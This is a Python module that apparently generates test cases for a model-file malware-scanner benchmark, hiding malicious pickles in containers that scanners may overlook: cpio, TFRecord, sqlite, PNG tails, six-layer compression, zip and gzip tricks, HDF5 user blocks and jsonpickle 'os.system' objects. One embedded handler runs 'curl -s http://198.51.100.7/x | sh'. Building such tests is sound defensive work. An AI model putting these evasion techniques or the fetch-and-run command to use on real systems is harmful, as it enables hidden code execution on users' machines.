"""Pickles in containers that loaders open and scanners forget, or that two programs read differently."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import sqlite3
import struct
import tempfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from benchmarks.corpus.malicious.asm import C, Encoder
from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.containers.zips import Member, build, plain
from benchmarks.corpus.malicious.formats.keras import h5
from benchmarks.corpus.malicious.formats2.packages import tarred
from benchmarks.corpus.malicious.hosts import EVIL, object_npy, torch_members, torch_pickle
from benchmarks.corpus.malicious.payloads import COMMAND

_TORCH = plain(torch_members(torch_pickle(evil=True)))


def _cpio(name: str, data: bytes) -> bytes:
    """A ``newc`` archive (cpio(5))."""

    def entry(label: str, content: bytes) -> bytes:
        fields = (1, 0o100644, 0, 0, 1, 0, len(content), 0, 0, 0, 0, len(label) + 1, 0)
        head = b"070701" + b"".join(b"%08X" % value for value in fields) + label.encode() + b"\0"
        head += bytes(-len(head) % 4)
        return head + content + bytes(-len(content) % 4)

    return entry(name, data) + entry("TRAILER!!!", b"")


def _record(data: bytes) -> bytes:
    """One TFRecord; checksums are not what loaders of small files look at."""
    return struct.pack("<Q", len(data)) + bytes(4) + data + bytes(4)


def _shelf(data: bytes) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.db"
        connection = sqlite3.connect(path)
        connection.execute("create table Dict (key text, value blob)")
        connection.execute("insert into Dict values ('a', ?)", (data,))
        connection.commit()
        connection.close()
        return path.read_bytes()


def _unwrapped(data: bytes) -> bytes:
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(data) + engine.flush()


def _png(data: bytes) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"") + data


def _layers(data: bytes) -> bytes:
    for pack in (
        gzip.compress,
        bz2.compress,
        lzma.compress,
        zlib.compress,
        lambda item: tarred({"m": item}),
        lambda item: plain([("m", item)]),
    ):
        data = pack(data)
    return data


def _files() -> dict[str, bytes]:
    extra = struct.pack("<HHBI", 0x7075, 5 + 5, 1, zlib.crc32(b"a.txt")) + b"m.pkl"
    streamed = Member(
        "m.pkl",
        EVIL,
        local={"flags": 8, "crc": 0, "csize": 0, "usize": 0},
        after=b"PK\7\x08" + struct.pack("<III", zlib.crc32(EVIL), len(EVIL), len(EVIL)),
    )
    memory = io.BytesIO()
    memory.write(b"#!/bin/sh\n")
    return {
        "weights.cpio": _cpio("m.pkl", EVIL),
        "weights.cpio.gz": gzip.compress(_cpio("m.pkl", EVIL), mtime=0),
        "data.tfrecord": _record(b"abc") + _record(EVIL),
        "shelf.sqlite": _shelf(EVIL),
        "raw.deflate": _unwrapped(EVIL),
        "text.b64": base64.encodebytes(EVIL),
        "text.b85": base64.b85encode(EVIL),
        "picture.png": _png(EVIL),
        "picture-zip.png": _png(_TORCH),
        "six-layers.bin": _layers(EVIL),
        "stream.zip": build([streamed]),
        "unicode-path.zip": build([Member("a.txt", EVIL, local={"extra": extra}, central={"extra": extra})]),
        "torch-in-npz.npz": plain([("arr_0.npy", object_npy()), ("model.pt", _TORCH)]),
        "object-in-tar.npy.tar": tarred({"a/b/c.npy": object_npy()}),
        "user-block.h5": EVIL.ljust(512, b"\0") + h5(lambda file: file.create_dataset("a", data=[1.0])),
        "xz-padded.pkl.xz": lzma.compress(b"") + bytes(8) + lzma.compress(EVIL),
        "gzip-extra.pkl.gz": b"\x1f\x8b\x08\x1c"
        + bytes(6)
        + struct.pack("<H", 4)
        + b"abcd"
        + b"name\0"
        + b"comment\0"
        + _unwrapped(EVIL)
        + struct.pack("<II", zlib.crc32(EVIL), len(EVIL)),
        "gzip-concatenated.pkl.gz": gzip.compress(EVIL[:9], mtime=0) + gzip.compress(EVIL[9:], mtime=0),
        "zip-in-comment.zip": build([Member("a.txt", b"x")], comment=_TORCH[:60_000]),
        "double-ended.zip": plain([("a.txt", b"x")]) + plain([("data.pkl", EVIL)]),
        "json-pickle.json": json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]}).encode(),
        "json-object.json": json.dumps({"py/object/apply": "subprocess.Popen", "py/object/new": "os.system"}).encode(),
        "lzma-legacy.pkl": lzma.compress(EVIL, lzma.FORMAT_ALONE),
        "shar.mar": memory.getvalue() + plain([("handler.py", b"import os\nos.system('curl -s http://198.51.100.7/x | sh')\n")]),
        "protocol-zero.txt": Encoder(0).dumps({"a": C("os:system", COMMAND)}),
        "after-text.md": b"# Model card\n\nA small model.\n" + EVIL,
        "in-word2vec.bin": b"1 4\nword " + struct.pack("<4f", 1, 2, 3, 4) + b"\n" + EVIL,
        "webdataset.tar": tarred({"000.cls": b"1", "000.pyd": EVIL, "001.pth": _TORCH}),
    }


def cases() -> Iterator[Case]:
    """One file each."""
    for name, data in _files().items():
        label = (
            "code-carrying"
            if name in ("text.b64", "text.b85", "raw.deflate", "picture.png", "picture-zip.png", "zip-in-comment.zip")
            else "malicious"
        )
        yield Case(f"containers/{name}", data, f"tricks-container-{name.partition('.')[0]}", label)
